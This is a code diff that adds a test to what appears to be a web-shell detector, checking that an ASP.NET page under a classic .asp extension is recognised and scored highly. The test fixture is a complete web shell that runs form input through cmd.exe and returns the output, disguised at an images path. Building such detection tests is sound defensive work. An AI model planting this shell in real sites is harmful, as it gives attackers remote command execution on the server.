@@ -317,3 +317,18 @@ def test_rules_quiet_on_real_applications() -> None:
 def test_php_in_an_old_or_utf7_open_tag_is_found_in_non_scripts(data: bytes) -> None:
     assert has_code_marker(data)
     assert sniff_embedded(data) is Language.PHP
+
+
+def test_an_aspnet_page_under_a_classic_asp_extension_is_read_as_aspnet() -> None:
+    page = (
+        b'<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
+        b'  var c = Request.Form["c"];\r\n'
+        b'  var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c)'
+        b" { RedirectStandardOutput = true, UseShellExecute = false });\r\n"
+        b"  Response.Write(p.StandardOutput.ReadToEnd());\r\n}\r\n</script>\r\n"
+    )
+    verdict = detect_bytes(page, "images/status.asp")
+    assert verdict.language.value == "aspx"
+    assert verdict.score >= 90
+    classic = b'<%@ Language="VBScript" %>\r\n<% Response.Write "hello" %>\r\n'
+    assert detect_bytes(classic, "hello.asp").language.value == "asp"
